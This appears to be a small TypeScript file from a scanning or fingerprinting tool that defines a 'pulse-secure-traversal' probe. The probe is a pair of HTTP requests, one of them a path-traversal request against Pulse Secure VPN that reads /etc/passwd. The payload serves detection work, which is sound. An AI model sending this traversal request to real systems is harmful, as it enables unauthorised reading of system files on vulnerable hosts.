import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'pulse-secure-traversal',
    get('/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/'),
    get('/dana-na/auth/url_default/welcome.cgi'),
  ),
]
